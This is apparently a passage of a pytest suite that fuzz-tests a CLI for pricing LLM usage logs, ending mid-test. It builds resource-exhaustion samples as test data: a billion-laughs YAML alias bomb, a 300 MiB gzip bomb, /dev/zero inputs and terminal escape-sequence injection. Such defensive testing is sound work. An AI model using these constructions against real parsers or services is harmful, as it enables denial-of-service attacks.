"""Bad inputs of every kind: no traceback, no internal error (exit 3), no hang, every line accounted for, nothing
mispriced silently, no secret printed. Each test is the regression test of a problem found by fuzzing the CLI."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import sys
import tempfile
import threading
from dataclasses import dataclass
from typing import Any

import pytest

from .conftest import ROOT
from .runner import costcalc, main

CONFIG = str(ROOT / "sample_data" / "config.yaml")
SECRETS = ("sk-SECRET-azure-0123456789", "sk-live-MASTER-0123456789", "SECRET-ENV-VALUE")


@pytest.fixture(autouse=True)
def secret_env(monkeypatch):
    monkeypatch.setenv("AZURE_API_KEY", SECRETS[2])


def run(capsys, *args: str) -> tuple[int, str, str]:
    code, out, err = costcalc(capsys, *args)
    assert "Traceback" not in out + err
    assert code != 3, err
    for secret in SECRETS:
        assert secret not in out + err
    return code, out, err


def one_line_error(err: str, *parts: str) -> None:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert lines[0].startswith("costcalc: error: "), err
    for part in parts:
        assert part in lines[0], (part, err)


def write(tmp_path, name: str, data: bytes | str) -> str:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return str(path)


def price_jsonl(capsys, path: str, *extra: str) -> list[dict]:
    code, out, err = run(capsys, "price", path, "--config", CONFIG, "--format", "jsonl", *extra)
    assert code == 0, err
    return [json.loads(line) for line in out.splitlines()]


def price_json(capsys, path: str, *extra: str) -> dict:
    code, out, err = run(capsys, "price", path, "--config", CONFIG, "--format", "json", *extra)
    assert code == 0, err
    doc = json.loads(out)
    a = doc["accounting"]
    assert a["read"] == a["priced"] + a["unpriced"] + a["rejected"] + a["skipped"] + a["filtered"]
    return doc


def lines(*objs: object) -> str:
    return "".join(json.dumps(o) + "\n" for o in objs)


# -- usage records ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("group", ["day", "week", "month", "hour"])
def test_out_of_range_timestamps_are_rejected_not_internal_errors(capsys, tmp_path, group):
    path = write(tmp_path, "u.jsonl", lines(
        {"model": "gpt-4o", "prompt_tokens": 1, "timestamp": 1e30},
        # 2^53 would be microseconds (the year 2255): 10^21 is out of range even as nanoseconds (the year 33658)
        {"model": "gpt-4o", "prompt_tokens": 1, "timestamp": 10**21},
        {"model": "gpt-4o", "prompt_tokens": 1, "timestamp": "9999-12-31T23:59:59-12:00"},
        {"model": "gpt-4o", "prompt_tokens": 1, "timestamp": -1e20},
        {"model": "gpt-4o", "prompt_tokens": 1, "timestamp": "2026-01-01T00:00:00Z"},
        {"object": "chat.completion", "created": 1e30, "model": "gpt-4o",
         "usage": {"prompt_tokens": 1, "completion_tokens": 1}},
        {"modelVersion": "gemini-2.5-pro", "createTime": "99999-01-01", "usageMetadata": {"promptTokenCount": 1}},
    ))
    doc = price_json(capsys, path, "--group-by", group)
    assert doc["accounting"]["read"] == 7
    assert doc["accounting"]["priced"] == 1 and doc["accounting"]["rejected"] == 6
    reasons = [r["reason"] for r in doc["rejected"]]
    assert all(r.startswith(("timestamp:", "created:", "createTime:")) for r in reasons), reasons


def test_out_of_range_dates_on_the_command_line_are_usage_errors(capsys, tmp_path):
    path = write(tmp_path, "u.jsonl", lines({"model": "gpt-4o", "prompt_tokens": 1}))
    code, _, err = run(capsys, "price", path, "--since", "1e30")
    assert code == 2 and "--since" in err


@pytest.mark.parametrize(("obj", "field"), [
    # Gemini: candidates that are not a list of objects (read when tool-use tokens need the grounding rule)
    ({"candidates": True, "modelVersion": "gemini-2.5-flash",
      "usageMetadata": {"promptTokenCount": 5, "toolUsePromptTokenCount": 3}}, "candidates"),
    ({"candidates": [1], "modelVersion": "gemini-2.5-flash",
      "usageMetadata": {"promptTokenCount": 5, "toolUsePromptTokenCount": 3}}, "candidates[]"),
    ({"candidates": [{"groundingMetadata": "yes"}], "modelVersion": "gemini-2.5-flash",
      "usageMetadata": {"promptTokenCount": 5, "toolUsePromptTokenCount": 3}}, "candidates[].groundingMetadata"),
    # a spend-log call_type that is not a string (was: unhashable type)
    ({"request_id": "r", "call_type": [1], "model_group": "gpt4o", "prompt_tokens": 1}, "call_type"),
    ({"request_id": "r", "call_type": {"a": 1}, "model_group": "gpt4o", "prompt_tokens": 1}, "call_type"),
    # nested parts of the wrong type that used to be ignored, pricing the record differently
    ({"type": "message", "model": "claude-sonnet-4-5", "usage": {"input_tokens": 9, "iterations": [1, 2]}},
     "usage.iterations"),
    ({"type": "message", "model": "claude-sonnet-4-5", "usage": {"input_tokens": 9, "iterations": "x"}},
     "usage.iterations"),
    ({"modelVersion": "gemini-2.5-flash", "usageMetadata": {"promptTokenCount": 9,
      "promptTokensDetails": [7]}}, "usageMetadata.promptTokensDetails"),
    ({"modelVersion": "gemini-2.5-flash", "usageMetadata": {"promptTokenCount": 9,
      "promptTokensDetails": [{"modality": 1.5, "tokenCount": 9}]}}, "usageMetadata.promptTokensDetails[].modality"),
    ({"modelVersion": "gemini-2.5-flash", "usageMetadata": {"promptTokenCount": 9, "trafficType": True}},
     "usageMetadata.trafficType"),
    ({"modelVersion": "gemini-2.5-flash", "usageMetadata": {"foo": 9}}, "usageMetadata"),
    ({"model_group": "gpt4o", "prompt_tokens": 10, "metadata": {"usage_object": "cached=5"}},
     "metadata.usage_object"),
    ({"object": "chat.completion", "model": "gpt-4o", "service_tier": True,
      "usage": {"prompt_tokens": 1, "completion_tokens": 1}}, "service_tier"),
    ({"object": "response", "model": "gpt-4o", "service_tier": ["priority"],
      "usage": {"input_tokens": 1, "output_tokens": 1}}, "service_tier"),
    ({"type": "message", "model": "claude-sonnet-4-5", "usage": {"input_tokens": 9, "service_tier": 1}},
     "usage.service_tier"),
    # batch lines whose usage holds no counts were priced at $0
    ({"custom_id": "a", "response": {"status_code": 200, "body": {"model": "gpt-4o", "usage": {"a": 1}}}},
     "response.body.usage"),
    ({"custom_id": "a", "result": {"type": "succeeded", "message": {"model": "claude-sonnet-4-5",
                                                                  "usage": {"a": 1}}}}, "result.message.usage"),
])
def test_fields_of_the_wrong_type_are_rejections_naming_the_field(capsys, tmp_path, obj, field):
    path = write(tmp_path, "u.jsonl", lines(obj))
    [row] = price_jsonl(capsys, path)
    assert row["status"] == "rejected", row
    assert row["reason"].startswith(field + ":"), row["reason"]
    assert row["line"] == 1 and row["file"] == path


def test_a_transcript_type_that_is_not_a_string_is_a_rejection(capsys, tmp_path):
    path = write(tmp_path, "u.jsonl", lines({"type": [], "summary": "x"}, {"type": {}, "summary": "x"}))
    assert [r["status"] for r in price_jsonl(capsys, path)] == ["rejected", "rejected"]


def test_empty_usage_is_skipped_not_priced_at_zero(capsys, tmp_path):
    path = write(tmp_path, "u.jsonl", lines(
        {"custom_id": "a", "response": {"status_code": 200, "body": {"model": "gpt-4o", "usage": {}}}},
        {"modelVersion": "gemini-2.5-flash", "usageMetadata": {}},
    ))
    assert [r["status"] for r in price_jsonl(capsys, path)] == ["skipped", "skipped"]


@pytest.mark.parametrize(("obj", "field"), [
    ({"model": "sagemaker-completion-model", "prompt_tokens": 1, "duration_s": 1e308}, "duration_s"),
    ({"model": "sagemaker-completion-model", "prompt_tokens": 1, "response_time_ms": 1e308}, "response_time_ms"),
    ({"model": "sagemaker-completion-model", "prompt_tokens": 1, "startTime": "2026-01-01",
      "endTime": "9999-01-01"}, "endTime"),
    ({"model": "gpt-4o", "prompt_tokens": 9007199254740991, "input_cost_per_token": 1e300}, "input_cost_per_token"),
    ({"model": "gpt-4o", "prompt_tokens": 1, "input_cost_per_token": "1e400"}, "input_cost_per_token"),
    ({"model": "gpt-4o", "prompt_tokens": 1, "spend": 1e300}, "spend"),
])
def test_amounts_that_would_overflow_the_totals_are_rejected(capsys, tmp_path, obj, field):
    # was: OverflowError (cannot convert float infinity to integer) in every report format
    path = write(tmp_path, "u.jsonl", lines(obj, {"model": "gpt-4o", "prompt_tokens": 1}))
    for fmt in ("json", "table", "csv", "markdown", "html"):
        code, _, err = run(capsys, "price", path, "--config", CONFIG, "--format", fmt, "--reconcile"
                             if fmt in ("json", "table", "markdown") else "--quiet")
        assert code == 0, err
    rows = price_jsonl(capsys, path)
    assert rows[0]["status"] == "rejected" and rows[0]["reason"].startswith(field + ":")
    assert rows[1]["status"] == "priced"


def test_largest_token_counts_still_price(capsys, tmp_path):
    big = 2**53 - 1
    path = write(tmp_path, "u.jsonl", lines(*[{"model": "gpt-4o", "prompt_tokens": big, "completion_tokens": big}] * 3))
    doc = price_json(capsys, path)
    assert doc["accounting"]["priced"] == 3 and doc["totals"]["cost"]["total"] > 0


def test_values_nested_deep_are_rejected_or_grouped(capsys, tmp_path):
    # within the nesting limit (64 levels, the record being the first): a field of the wrong type, or a group
    deep = "[" * 60 + "]" * 60
    obj = '{"model": "gpt-4o", "prompt_tokens": ' + deep + "}\n"
    grouped = ('{"model": "gpt-4o", "prompt_tokens": 1, "user": ' + deep[2:-2] + ', "tags": [' + deep[4:-4]
               + '], "metadata": {"a": ' + deep[4:-4] + "}}\n")
    path = write(tmp_path, "u.jsonl", obj + grouped)
    rows = price_jsonl(capsys, path)
    assert rows[0]["status"] == "rejected" and rows[0]["reason"].startswith("prompt_tokens:")
    for group in ("user", "tag", "metadata.a", "metadata"):
        doc = price_json(capsys, path, "--group-by", group)
        assert doc["accounting"] == {"read": 2, "priced": 1, "unpriced": 0, "rejected": 1, "skipped": 0,
                                     "filtered": 0, "excluded": 0, "duplicates": 0, "approximate": 0}


def test_utf16_files_and_stdin_are_read(capsys, tmp_path, monkeypatch):
    text = lines({"model": "gpt-4o", "prompt_tokens": 10}, {"model": "gpt-4o", "prompt_tokens": 20})
    for encoding in ("utf-16", "utf-16-be", "utf-32"):
        data = ("\ufeff" + text).encode(encoding) if encoding == "utf-16-be" else text.encode(encoding)
        path = write(tmp_path, f"{encoding}.jsonl", data)
        rows = price_jsonl(capsys, path)
        assert [(r["line"], r["status"], r["tokens"]["prompt"]) for r in rows] == \
            [(1, "priced", 10), (2, "priced", 20)], encoding
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BufferedReader(io.BytesIO(text.encode("utf-16")))))
    code, out, _ = run(capsys, "price", "-", "--format", "json")
    assert code == 0 and json.loads(out)["accounting"]["priced"] == 2


def test_truncated_utf16_is_a_file_error(capsys, tmp_path):
    path = write(tmp_path, "u.jsonl", b"\xff\xfe{\x00x")
    code, _, err = run(capsys, "price", path)
    assert code == 2
    one_line_error(err, path, "UTF-16")


def test_a_utf8_bom_is_accepted_on_any_line(capsys, tmp_path):
    # `cat a.jsonl b.jsonl` of files saved with a BOM puts one mid-file
    good = b'{"model": "gpt-4o", "prompt_tokens": 5}'
    path = write(tmp_path, "u.jsonl", b"\xef\xbb\xbf" + good + b"\r\n\xef\xbb\xbf" + good + b"\n\xef\xbb\xbf\n")
    rows = price_jsonl(capsys, path)
    assert [(r["line"], r["status"]) for r in rows] == [(1, "priced"), (2, "priced"), (3, "rejected")]


@pytest.mark.parametrize("data", [
    b"\x00\x00\x00\n{\n[1,2]\n\xff\xfe\n" + b"\x80" * 100 + b"\n",
    bytes(range(256)) * 20,
    b'{"model": "gpt-4o", "prompt_tokens": NaN}\n{"model": "gpt-4o", "prompt_tokens": Infinity}\n'
    b'{"model": "gpt-4o", "prompt_tokens": 1' + b"0" * 400 + b"}\n",
    b'{"model": "gpt-4o\\u0000", "prompt_tokens": 1}\n{"model": "\\n", "prompt_tokens": 1}\n'
    b'{"model": "' + b"m" * 100_000 + b'", "prompt_tokens": 1}\n{"model": "gpt-4o\\ud800", "prompt_tokens": 1}\n',
])
def test_garbage_is_rejected_line_by_line(capsys, tmp_path, data):
    path = write(tmp_path, "u.jsonl", data)
    expected = sum(1 for line in data.split(b"\n") if line.strip())
    doc = price_json(capsys, path, "--group-by", "tag", "--group-by", "metadata.x")
    assert doc["accounting"]["read"] == expected
    assert len(price_jsonl(capsys, path)) == expected


def test_a_pipe_is_read_once_and_completely(capsys, tmp_path):
    # the parallel planner used to read the first 64 KiB of every input to look for transcripts, which
    # swallowed those lines of a pipe (`costcalc price <(zcat logs.gz)`, /dev/stdin)
    fifo = str(tmp_path / "pipe.jsonl")
    os.mkfifo(fifo)
    data = lines(*[{"model": "gpt-4o", "prompt_tokens": n} for n in range(1, 2001)]).encode()

    def feed() -> None:
        with open(fifo, "wb") as fh:
            fh.write(data)

    writer = threading.Thread(target=feed)
    writer.start()
    try:
        code, out, _ = run(capsys, "price", fifo, "--format", "json", "--jobs", "2")
    finally:
        writer.join(timeout=10)
    assert code == 0
    assert json.loads(out)["accounting"]["priced"] == 2000


def test_file_names_that_are_not_utf8_are_shown_with_a_replacement(capsys, tmp_path):
    folder = tmp_path / "logs"
    folder.mkdir()
    name = os.fsdecode(b"bad-\xff.jsonl")
    (folder / name).write_text(lines({"model": "gpt-4o", "prompt_tokens": 1}, "not an object"))
    for fmt in ("json", "jsonl", "table"):
        code, out, err = run(capsys, "price", str(folder), "--format", fmt)
        assert code == 0, err
    code, out, err = run(capsys, "price", str(folder), "--explain")
    assert code == 0 and "bad-\ufffd.jsonl:1" in out


def test_an_empty_file_name_is_an_error_not_the_current_directory(capsys):
    code, _, err = run(capsys, "price", "")
    assert code == 2
    one_line_error(err, "not a file name")


def test_gzip_that_is_truncated_or_fake_is_a_file_error(capsys, tmp_path):
    good = gzip.compress(lines(*[{"model": "gpt-4o", "prompt_tokens": 1}] * 50).encode())
    for name, data in (("trunc.jsonl.gz", good[:-12]), ("fake.jsonl.gz", b"\x1f\x8b" + b"garbage" * 10)):
        path = write(tmp_path, name, data)
        code, _, err = run(capsys, "price", path, "--format", "json")
        assert code == 2
        one_line_error(err, path)


def test_plaintext_api_keys_in_usage_logs_are_masked_in_key_groups(capsys, tmp_path):
    path = write(tmp_path, "u.jsonl", lines({"model": "gpt-4o", "prompt_tokens": 1, "api_key": SECRETS[0]}))
    doc = price_json(capsys, path, "--group-by", "key")
    assert [g["key"]["key"] for g in doc["groups"]] == ["sk-...6789"]


# -- configs -------------------------------------------------------------------------------------------------

BASE = ("model_list:\n  - model_name: m\n    litellm_params:\n      model: openai/gpt-4o\n"
        f"      api_key: {SECRETS[0]}\n")


def config_commands(path: str, usage: str) -> list[list[str]]:
    return [["price", usage, "--config", path, "--format", "json"], ["lookup", "m", "--config", path],
            ["diff", "--config", path, usage], ["validate", "--config", path]]


def assert_config_refused(capsys, tmp_path, text: str, *parts: str, validate_exit: int = 1) -> None:
    path = write(tmp_path, "config.yaml", text)
    usage = write(tmp_path, "u.jsonl", lines({"model": "m", "prompt_tokens": 1}))
    for args in config_commands(path, usage):
        code, out, err = run(capsys, *args)
        if args[0] == "validate":
            assert code == validate_exit, (args, out, err)
            for part in parts[1:]:
                assert part in out, (part, out)
        else:
            assert code == 2, (args, out, err)
            one_line_error(err, path, *parts)


def billion_laughs(target: str) -> str:
    text = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for i in range(1, 9):
        prev, name = chr(ord("a") + i - 1), chr(ord("a") + i)
        text += f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]\n"
    return text + f"{target}: *i\n"


@pytest.mark.parametrize("text", [
    billion_laughs("general_settings") + "model_list: []\n",  # ignored by pricing, walked by validate: hung
    billion_laughs("model_list"),
])
def test_billion_laughs_is_refused_quickly(capsys, tmp_path, text):
    assert_config_refused(capsys, tmp_path, text, "YAML aliases expand to more than")


@pytest.mark.parametrize(("text", "reason"), [
    ("model_list: " + "[" * 5000 + "]" * 5000 + "\n", "nested deeper than"),
    (BASE + "      extra: " + "[" * 100 + "]" * 100 + "\n", "nested deeper than"),
    ("a: &a [*a]\nmodel_list: []\n", "cycle"),
    ("model_list:\n  - &e {model_name: a, litellm_params: {model: openai/gpt-4o, x: *e}}\n", "cycle"),
    (BASE + "      input_cost_per_token: " + "9" * 5000 + "\n", "invalid YAML"),
    (BASE + "      input_cost_per_token: 2024-13-45\n", "invalid YAML"),
    (BASE + f"      input_cost_per_token: !!float {SECRETS[1]}\n", "invalid YAML"),
    (BASE + '      input_cost_per_token: "\\ud800"\n', "lone UTF-16 surrogate"),
])
def test_yaml_that_cannot_be_read_is_a_one_line_config_error(capsys, tmp_path, text, reason):
    assert_config_refused(capsys, tmp_path, text, reason)


@pytest.mark.parametrize(("text", "parts"), [
    (BASE + "      1: 2\n", ("deployment 'm' (#1)", "litellm_params", "keys must be strings")),
    (BASE + "      null: 2\n", ("deployment 'm' (#1)", "litellm_params", "keys must be strings")),
    (BASE + "    model_info: {5: 1}\n", ("deployment 'm' (#1)", "model_info", "keys must be strings")),
    (BASE + "      tiered_pricing: [{1: 2, range: [0, 1]}]\n",
     ("deployment 'm' (#1)", "litellm_params.tiered_pricing", "tier 1: keys must be field names")),
    (BASE + "      input_cost_per_token: 1e300\n",
     ("deployment 'm' (#1)", "litellm_params.input_cost_per_token", "implausibly large")),
    (BASE + "litellm_settings: {cost_margin_config: {global: 1e300}}\n",
     ("litellm_settings.cost_margin_config.global", "implausibly large")),
])
def test_config_values_of_the_wrong_kind_name_deployment_and_key(capsys, tmp_path, text, parts):
    assert_config_refused(capsys, tmp_path, text, *parts)


@pytest.mark.parametrize("where", [
    "      input_cost_per_token: {secret}\n",
    "    model_info: {{output_cost_per_token: '{secret}'}}\n",
    "      tiered_pricing: [{{range: [0, '{secret}'], input_cost_per_token: 1e-6}}]\n",
])
def test_a_secret_pasted_into_a_price_is_never_echoed(capsys, tmp_path, where):
    text = BASE + where.format(secret=SECRETS[1]) + f"general_settings: {{master_key: {SECRETS[1]}}}\n"
    assert_config_refused(capsys, tmp_path, text, "price must be a number")


def test_a_secret_in_a_discount_is_never_echoed(capsys, tmp_path):
    text = BASE + f"litellm_settings: {{cost_discount_config: {{openai: '{SECRETS[1]}'}}}}\n"
    assert_config_refused(capsys, tmp_path, text, "cost_discount_config.openai", "price must be a number")


def test_includes_of_endless_files_and_endless_chains_are_bounded(capsys, tmp_path):
    path = write(tmp_path, "config.yaml", "include: [/dev/zero]\n" + BASE)
    for args in (["lookup", "m", "--config", path], ["price", "-", "--config", path]):
        code, _, err = run(capsys, *args)
        assert code == 2
        one_line_error(err, "/dev/zero", "larger than")
    code, out, _ = run(capsys, "validate", "--config", path)
    assert code == 1 and "larger than" in out
    for i in range(40):
        write(tmp_path, f"c{i}.yaml", f"include: [c{i + 1}.yaml]\nmodel_list: []\n")
    code, _, err = run(capsys, "lookup", "gpt-4o", "--config", str(tmp_path / "c0.yaml"))
    assert code == 2
    one_line_error(err, "includes nested more than")


def test_an_empty_config_name_is_an_error_not_no_config(capsys, tmp_path):
    usage = write(tmp_path, "u.jsonl", lines({"model": "gpt-4o", "prompt_tokens": 1}))
    for args in (["price", usage, "--config", ""], ["validate", "--config", ""], ["lookup", "gpt-4o", "-c", " "]):
        code, _, err = run(capsys, *args)
        assert code == 2 and "empty file name" in err


# -- cost maps -----------------------------------------------------------------------------------------------

def small_map(**changes: object) -> dict:
    entry = {"litellm_provider": "openai", "mode": "chat", "input_cost_per_token": 2.5e-6,
             "output_cost_per_token": 1e-5}
    entry.update(changes)
    return {"gpt-4o": entry, "gpt-4o-mini": {"litellm_provider": "openai", "input_cost_per_token": 1.5e-7}}


def map_commands(path: str, usage: str) -> list[list[str]]:
    return [["price", usage, "--cost-map", path, "--format", "json"], ["lookup", "gpt-4o", "--cost-map", path],
            ["models", "gpt", "--cost-map", path], ["map", "info", "--cost-map", path],
            ["diff", "--config", CONFIG, "--cost-map", path, usage],
            ["validate", "--config", CONFIG, "--cost-map", path]]


@pytest.mark.parametrize(("changes", "field"), [
    ({"input_cost_per_token": [1]}, "input_cost_per_token"),
    ({"input_cost_per_token": {"a": 1}}, "input_cost_per_token"),
    ({"cache_read_input_token_cost": "1e-6"}, "cache_read_input_token_cost"),
    ({"output_cost_per_token": -1e-6}, "output_cost_per_token"),
    ({"output_cost_per_token": 1e300}, "output_cost_per_token"),
    ({"input_cost_per_token_above_200k_tokens": True}, "input_cost_per_token_above_200k_tokens"),
    ({"tiered_pricing": "cheap"}, "tiered_pricing"),
    ({"tiered_pricing": [{"range": [0, 10], "input_cost_per_token": "x"}]}, "tiered_pricing[0].input_cost_per_token"),
    ({"search_context_cost_per_query": "x"}, "search_context_cost_per_query"),
    ({"litellm_provider": ["openai"]}, "litellm_provider"),
    ({"aliases": [["x"]]}, "aliases"),
])
def test_cost_map_entries_that_cannot_price_are_refused_naming_entry_and_field(capsys, tmp_path, monkeypatch,
                                                                                changes, field):
    path = write(tmp_path, "map.json", json.dumps(small_map(**changes)))
    usage = write(tmp_path, "u.jsonl", lines({"model": "gpt-4o", "prompt_tokens": 1}))
    for args in map_commands(path, usage):
        code, _, err = run(capsys, *args)
        assert code == 2, args
        one_line_error(err, path, "gpt-4o", field)
    monkeypatch.setenv("COSTCALC_COST_MAP", path)
    code, _, err = run(capsys, "lookup", "gpt-4o")
    assert code == 2
    one_line_error(err, path, "gpt-4o", field)


def test_cost_map_fields_the_formulas_never_read_may_hold_anything(capsys, tmp_path):
    path = write(tmp_path, "map.json", json.dumps(small_map(some_future_cost_note="see docs",
                                                             guardrail_cost_per_unit={"x": 1})))
    code, _, err = run(capsys, "lookup", "gpt-4o", "--cost-map", path)
    assert code == 0, err


def test_an_endless_cost_map_is_refused(capsys):
    code, _, err = run(capsys, "lookup", "gpt-4o", "--cost-map", "/dev/zero")
    assert code == 2
    one_line_error(err, "/dev/zero", "larger than")


@pytest.mark.parametrize("meta", [b"[1]", b"null", b"nope"])
def test_a_cost_map_meta_file_of_the_wrong_shape_is_ignored(capsys, tmp_path, meta):
    path = write(tmp_path, "map.json", json.dumps(small_map()))
    write(tmp_path, "map.json.meta.json", meta)
    code, out, _ = run(capsys, "map", "info", "--cost-map", path)
    assert code == 0 and path in out


def test_map_update_from_an_unparsable_url_is_a_one_line_error(capsys):
    code, _, err = run(capsys, "map", "update", "--from", "http://[::1")
    assert code == 2
    one_line_error(err, "the cost map in use is unchanged")


# -- the command line ----------------------------------------------------------------------------------------

def test_an_infinite_tolerance_is_a_usage_error(capsys, tmp_path):
    usage = write(tmp_path, "u.jsonl", lines({"model": "gpt-4o", "prompt_tokens": 1}))
    code, _, err = run(capsys, "price", usage, "--reconcile", "--tolerance", "inf")
    assert code == 2 and "--tolerance" in err


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize("args", [["--output", "/dev/full"], ["--format", "json", "--output", "/dev/full"],
                                  ["--format", "jsonl", "--output", "/dev/full"], ["--rejects", "/dev/full"]])
def test_a_full_disk_is_a_one_line_error(capsys, tmp_path, args):
    usage = write(tmp_path, "u.jsonl", lines({"model": "gpt-4o", "prompt_tokens": 1}, "bad"))
    code, _, err = run(capsys, "price", usage, "--quiet", *args)
    assert code == 2
    one_line_error(err, "No space left on device")


def test_arguments_that_are_not_utf8_are_one_line_errors(capsys):
    model = os.fsdecode(b"gpt-\xff")
    for args in (["lookup", model], ["lookup", model, "--format", "json"]):
        code, _, _ = run(capsys, *args)
        assert code in (1, 2)


def test_control_characters_from_logs_never_reach_the_terminal_raw(capsys, tmp_path):
    path = tmp_path / "esc.jsonl"
    path.write_text('{"model":"gpt-4o","prompt_tokens":10,"completion_tokens":1,"team":"\\u001b[31mred"}\n')
    assert main(["price", str(path), "-g", "team"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[31mred" in out
    assert main(["price", str(path), "--explain"]) == 0
    assert "\x1b" not in capsys.readouterr().out


def test_very_long_model_names_do_not_stall_wildcard_matching(capsys, tmp_path):
    config = tmp_path / "c.yaml"
    config.write_text('model_list:\n  - model_name: "*-*-*-x"\n    litellm_params: {model: "openai/*"}\n')
    path = tmp_path / "long.jsonl"
    path.write_text('{"model":"' + "a-" * 5000 + '","prompt_tokens":1}\n')
    assert main(["price", str(path), "--config", str(config), "-f", "json"]) == 0
    assert '"unpriced": 1' in capsys.readouterr().out


# -- faults, as a user meets them: each case a real process, its exit code, message and peak memory ------------

SRC = str(ROOT / "src")


@dataclass
class Finished:
    code: int
    out: str
    err: str
    peak_mib: float  # the process's (and its workers') peak resident memory
    seconds: float


def costcalc_process(*args: str, env: dict[str, str] | None = None, timeout: float = 120,
                     signal_after: tuple[Any, int] | None = None, group: bool = False,
                     address_space_mib: int | None = None, cwd: str | None = None,
                     started: Any = None) -> Finished:
    """``python -m costcalc ARGS`` as its own process (optionally with an address-space limit, and a signal sent
    once ``signal_after[0]()`` says the run is under way: to the process, or to its process group as a terminal's
    Ctrl-C is)."""
    import resource
    import signal as signals
    import subprocess
    import time

    def limit() -> None:
        if address_space_mib is not None:
            size = address_space_mib << 20
            resource.setrlimit(resource.RLIMIT_AS, (size, size))

    peak_file = os.path.join(tempfile.mkdtemp(prefix="costcalc-peak-"), "peak")
    environ = {**os.environ, "PYTHONPATH": SRC, "COSTCALC_TEST_PEAK": peak_file, **(env or {})}
    t0 = time.monotonic()
    proc = subprocess.Popen([sys.executable, "-c", MEASURED, *args], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=environ, preexec_fn=limit, start_new_session=group, cwd=cwd)
    if started is not None:
        started(proc)
    timer = threading.Timer(timeout, proc.kill)
    timer.start()
    if signal_after is not None:
        def send() -> None:
            while not signal_after[0]() and proc.poll() is None:  # the moment the run is under way
                time.sleep(0.01)
            if proc.poll() is None:
                if group:
                    os.killpg(proc.pid, signal_after[1])
                else:
                    proc.send_signal(signal_after[1])

        threading.Thread(target=send, daemon=True).start()
    out_chunks: list[bytes] = []
    err_chunks: list[bytes] = []
    readers = [threading.Thread(target=lambda s=s, c=c: c.append(s.read())) for s, c in
               ((proc.stdout, out_chunks), (proc.stderr, err_chunks))]
    for r in readers:
        r.start()
    _, status, _ = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    for r in readers:
        r.join()
    timer.cancel()
    assert proc.returncode != -signals.SIGKILL, f"timed out after {timeout} s"
    err = b"".join(err_chunks).decode(errors="replace")
    assert "Traceback" not in err, err
    peak_kib = float("nan")  # a process killed outright writes none: every comparison with it fails
    if os.path.exists(peak_file):
        with open(peak_file) as f:
            peak_kib = int(f.read())
    shutil.rmtree(os.path.dirname(peak_file))
    return Finished(proc.returncode, b"".join(out_chunks).decode(errors="replace"), err, peak_kib / 1024,
                    time.monotonic() - t0)


# `costcalc ARGS` that writes its peak memory as it exits: its own high-water mark (VmHWM: a forked child's
# rusage would count the test process it was forked from) and its workers' (their rusage: conservative)
MEASURED = """
import atexit, os, resource, sys
from costcalc.cli import main

def peak():
    with open("/proc/self/status") as f:
        own = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
    workers = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    with open(os.environ["COSTCALC_TEST_PEAK"], "w") as f:
        f.write(str(max(own, workers)))

atexit.register(peak)
sys.argv[0] = "costcalc"
sys.exit(main(sys.argv[1:]))
"""


def one_error_line(err: str, *parts: str) -> None:
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1, err
    for part in parts:
        assert part in lines[0], (part, err)


def test_dev_zero_is_refused_in_bounded_memory():
    # was: 16 GB in 70 s, killed by the kernel at 22 GB. A 1 MiB line limit gives up after 64 MiB of no line end.
    done = costcalc_process("price", "/dev/zero", env={"COSTCALC_MAX_LINE_BYTES": "1M"}, address_space_mib=2048)
    assert done.code == 2
    one_error_line(done.err, "/dev/zero", "no line end", "1,048,576")
    assert done.peak_mib < 150, done.peak_mib


def _gzip_file(path: Any, pieces: Any) -> None:
    with gzip.open(path, "wb", compresslevel=1) as f:
        for piece in pieces:
            f.write(piece)


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> str:
    """A gzip of 300 MiB: one record, one line of 300 MiB, one record."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.jsonl.gz"
    line = b'{"model": "gpt-4o", "prompt_tokens": 10}\n'
    _gzip_file(path, [line, b'{"model": "', *([b"a" * (1 << 20)] * 300), b'", "prompt_tokens": 1}\n', line])
    return str(path)


@pytest.mark.parametrize("engine", ["python", "duckdb"])
def test_a_gzip_bomb_line_is_rejected_with_its_number_in_bounded_memory(bomb, engine):
    done = costcalc_process("price", bomb, "--format", "json", "--engine", engine, "--quiet")
    assert done.code == 0, done.err
    doc = json.loads(done.out)
    assert doc["accounting"]["priced"] == 2 and doc["accounting"]["rejected"] == 1
    (rejected,) = doc["rejected"]
    assert rejected["line"] == 2 and "longer than the limit of 16,777,216" in rejected["reason"]
    assert done.peak_mib < 250, done.peak_mib  # the line alone is 300 MiB


def test_a_long_plain_line_is_rejected_while_reading(tmp_path):
    path = tmp_path / "long.jsonl"
    with open(path, "wb") as f:
        f.write(b'{"model": "gpt-4o", "prompt_tokens": 1}\n{"model": "')
        for _ in range(40):
            f.write(b"b" * (1 << 20))
        f.write(b'", "prompt_tokens": 1}\n{"model": "gpt-4o", "prompt_tokens": 2}\n')
    for jobs in ("1", "2"):
        done = costcalc_process("price", str(path), "--format", "jsonl", "--jobs", jobs,
                                env={"COSTCALC_MAX_LINE_BYTES": "8M"}, address_space_mib=2048)
        assert done.code == 0, done.err
        rows = [json.loads(x) for x in done.out.splitlines()]
        assert [(r["line"], r["status"]) for r in rows] == [(1, "priced"), (2, "rejected"), (3, "priced")]
        assert "longer than the limit of 8,388,608" in rows[1]["reason"]
        assert done.peak_mib < 150, done.peak_mib


def test_a_gzip_of_blank_lines_takes_seconds_not_minutes(tmp_path):
    # 256 Mi blank lines: at the former 1.8 µs a line, 8 minutes (the 120 s timeout); the record after them keeps
    # its line number
    path = tmp_path / "blank.jsonl.gz"
    _gzip_file(path, [*([b"\n" * (1 << 20)] * 256), b'{"model": "gpt-4o", "prompt_tokens": 1}\n', b"{bad\n"])
